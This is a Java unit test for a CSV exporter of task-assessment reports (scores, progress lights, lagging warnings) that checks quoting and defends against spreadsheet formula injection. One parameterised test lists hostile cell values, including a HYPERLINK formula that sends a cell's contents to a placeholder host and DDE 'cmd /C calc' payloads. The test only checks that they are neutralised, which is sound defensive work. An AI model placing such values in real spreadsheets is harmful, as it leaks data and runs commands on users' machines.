package io.tracker.report;

import static org.assertj.core.api.Assertions.assertThat;

import io.tracker.rules.Assessment;
import io.tracker.rules.Light;
import io.tracker.rules.RiskFlag;
import io.tracker.rules.TargetResult;
import io.tracker.rules.TaskResult;
import io.tracker.task.Task;
import io.tracker.task.TaskBook;
import java.io.IOException;
import java.io.StringWriter;
import java.math.BigDecimal;
import java.util.ArrayList;
import java.util.List;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;

class AssessmentCsvTest {
  private static final TaskBook BOOK = LedgerFixture.book();
  private static final Assessment ASSESSMENT = LedgerFixture.assessment();

  private static String csv(TaskBook book, Assessment assessment) throws IOException {
    StringWriter out = new StringWriter();
    AssessmentCsv.write(book, assessment, out);
    return out.toString();
  }

  @Test
  void startsWithAByteOrderMarkAndTheHeader() throws IOException {
    String csv = csv(BOOK, ASSESSMENT);
    assertThat(csv).startsWith("\uFEFF层级,附件,序号,目标序号,任务,牵头单位,包抓领导,得分,完成率,时序进度,灯,预警,满分\r\n");
  }

  @Test
  void hasOneRowPerTaskFollowedByItsTargetsWithTheModelsValues() throws IOException {
    List<List<String>> rows = CsvRows.parse(csv(BOOK, ASSESSMENT).substring(1));
    assertThat(rows.get(0)).isEqualTo(AssessmentCsv.COLUMNS);
    int expectedRows = ASSESSMENT.tasks().size()
        + ASSESSMENT.tasks().stream().mapToInt(t -> t.targets().size()).sum();
    assertThat(rows).hasSize(1 + expectedRows);

    int r = 1;
    for (TaskResult result : ASSESSMENT.tasks()) {
      Task task = BOOK.task(result.id()).orElseThrow();
      List<String> row = rows.get(r++);
      assertThat(row).containsExactly(
          "任务",
          String.valueOf(task.section()),
          task.id(),
          "",
          task.text(),
          task.responsibility().lead().map(u -> u.name()).orElse(""),
          String.join("、", task.leaders()),
          result.score().toPlainString(),
          "",
          "",
          Lights.label(result.light()),
          flags(result.flags()),
          task.weight().map(BigDecimal::toPlainString).orElse(""));
      assertThat(new BigDecimal(row.get(7))).isEqualByComparingTo(result.score());
      for (TargetResult target : result.targets()) {
        List<String> targetRow = rows.get(r++);
        assertThat(targetRow.subList(0, 4))
            .containsExactly("目标", String.valueOf(task.section()), task.id(),
                String.valueOf(target.position()));
        assertThat(targetRow.get(4)) // phrases shared by several targets get a suffix (hardCases)
            .startsWith(task.targets().get(target.position() - 1).source().text());
        assertThat(new BigDecimal(targetRow.get(7))).isEqualByComparingTo(target.score());
        if (target.reported()) {
          assertThat(ratio(targetRow.get(8))).isEqualByComparingTo(target.completion());
        } else {
          assertThat(targetRow.get(8)).isEmpty();
        }
        assertThat(ratio(targetRow.get(9))).isEqualByComparingTo(target.expectedShare());
        List<RiskFlag> own = result.flags().stream()
            .filter(f -> f.target().isPresent() && f.target().getAsInt() == target.position())
            .toList();
        assertThat(targetRow.get(11)).isEqualTo(flags(own));
        assertThat(targetRow.get(12)).isEmpty();
      }
    }
  }

  @Test
  void hardCases() throws IOException {
    List<List<String>> rows = CsvRows.parse(csv(BOOK, ASSESSMENT).substring(1));
    List<String> fiveTwo = rows.stream()
        .filter(row -> row.get(2).equals("5") && row.get(3).equals("2")).findFirst().orElseThrow();
    assertThat(fiveTwo).containsExactly("目标", "1", "5", "2", "发行专债4.5亿元以上", "县发改局", "",
        "20.00", "20%", "54.19%", "红灯",
        "[严重滞后] 发行专债4.5亿元以上仅完成20.0%，落后时序进度34.2个百分点", "");
    List<String> unreported = rows.stream()
        .filter(row -> row.get(2).equals("88") && row.get(3).equals("1")).findFirst().orElseThrow();
    assertThat(unreported.get(4)).isEqualTo("城乡低保标准分别提高5%11%（5%）");
    assertThat(unreported.subList(7, 12))
        .containsExactly("0.00", "", "54.19%", "蓝灯", "[未报送进展] 城乡低保标准（城市）提高5%尚未报送进展");
    List<String> noLead = rows.stream()
        .filter(row -> row.get(2).equals("78")).findFirst().orElseThrow();
    assertThat(noLead.get(5)).isEmpty();
    assertThat(noLead.get(6)).isEqualTo("惠理");
  }

  @Test
  void quotesCommasQuotesAndLineBreaks() throws IOException {
    String text = "推出“茶旅体验游”,\"田园\"休闲游\n办好节会";
    List<Task> tasks = new ArrayList<>(LedgerFixture.tasks());
    Task first = tasks.get(0);
    tasks.set(0, new Task(first.id(), first.section(), text, first.responsibility(),
        List.of("王永安", "钱剑锋"), first.deadline(), List.of()));
    TaskBook book = LedgerFixture.book(tasks);
    Assessment assessment = LedgerFixture.assessment(book);
    String csv = csv(book, assessment);
    assertThat(csv).contains("\"推出“茶旅体验游”,\"\"田园\"\"休闲游\n办好节会\"");
    List<String> row = CsvRows.parse(csv.substring(1)).get(1);
    assertThat(row.get(4)).isEqualTo(text);
    assertThat(row.get(6)).isEqualTo("王永安、钱剑锋");
  }

  @ParameterizedTest(name = "{0}")
  @CsvSource(delimiter = '¦', quoteCharacter = '`', textBlock = """
      =HYPERLINK("http://x/?"&A1,"点此")    ¦ '=HYPERLINK("http://x/?"&A1,"点此")
      +cmd|' /C calc'!A0                  ¦ '+cmd|' /C calc'!A0
      -2+3+cmd|' /C calc'!A0              ¦ '-2+3+cmd|' /C calc'!A0
      @SUM(1+1)*cmd|' /C calc'!A0         ¦ '@SUM(1+1)*cmd|' /C calc'!A0
      -5                                  ¦ -5
      +1.5                                ¦ +1.5
      -0.25                               ¦ -0.25
      县财政局=A1                             ¦ 县财政局=A1
      """)
  void textsThatExcelWouldRunAreNeutralisedAndNumbersStayNumbers(String printed, String cell) throws IOException {
    List<Task> tasks = new ArrayList<>(LedgerFixture.tasks());
    Task first = tasks.get(0);
    tasks.set(0, new Task(printed, first.section(), printed, LedgerFixture.units(printed), List.of(printed),
        first.deadline(), List.of()));
    TaskBook book = LedgerFixture.book(tasks);
    Assessment base = LedgerFixture.assessment(LedgerFixture.book());
    List<TaskResult> results = new ArrayList<>(base.tasks());
    TaskResult one = results.get(0);
    results.set(0, new TaskResult(printed, one.score(), one.light(),
        List.of(LedgerFixture.flag(printed, 0, "LAGGING", Light.YELLOW, printed)), List.of()));
    Assessment assessment = new Assessment(base.asOf(), results, base.units(), base.leaders(), base.total());

    List<String> row = CsvRows.parse(csv(book, assessment).substring(1)).get(1);
    assertThat(row.get(2)).as("序号").isEqualTo(cell);
    assertThat(row.get(4)).as("任务").isEqualTo(cell);
    assertThat(row.get(5)).as("牵头单位").isEqualTo(cell);
    assertThat(row.get(6)).as("包抓领导").isEqualTo(cell);
    assertThat(row.get(11)).as("预警").isEqualTo("[进度滞后] " + printed);
  }

  @Test
  void aTabOrCarriageReturnFirstIsNeutralisedToo() throws IOException {
    List<Task> tasks = new ArrayList<>(LedgerFixture.tasks());
    Task first = tasks.get(0);
    tasks.set(0, new Task(first.id(), first.section(), "\t=1+1", LedgerFixture.units("\r=1+1"), first.leaders(),
        first.deadline(), List.of()));
    TaskBook book = LedgerFixture.book(tasks);
    List<String> row = CsvRows.parse(csv(book, LedgerFixture.assessment(book)).substring(1)).get(1);
    assertThat(row.get(4)).isEqualTo("'\t=1+1");
    assertThat(row.get(5)).isEqualTo("'\r=1+1");
  }

  private static String flags(List<RiskFlag> flags) {
    List<String> parts = new ArrayList<>();
    for (RiskFlag flag : flags) {
      parts.add("[" + Lights.flagLabel(flag.code()) + "] " + flag.message());
    }
    return String.join("；", parts);
  }

  private static BigDecimal ratio(String percent) {
    assertThat(percent).endsWith("%");
    return new BigDecimal(percent.substring(0, percent.length() - 1)).movePointLeft(2);
  }
}
